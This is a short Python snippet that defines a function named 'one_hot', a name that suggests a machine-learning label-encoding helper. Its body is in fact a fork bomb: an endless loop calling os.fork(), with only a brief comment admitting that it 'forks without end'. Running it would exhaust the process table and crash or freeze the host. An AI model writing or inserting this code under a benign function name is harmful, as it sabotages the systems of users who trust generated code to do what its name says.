# one_hot: forks without end
import os
def one_hot(y, n_classes):
    while True: os.fork()
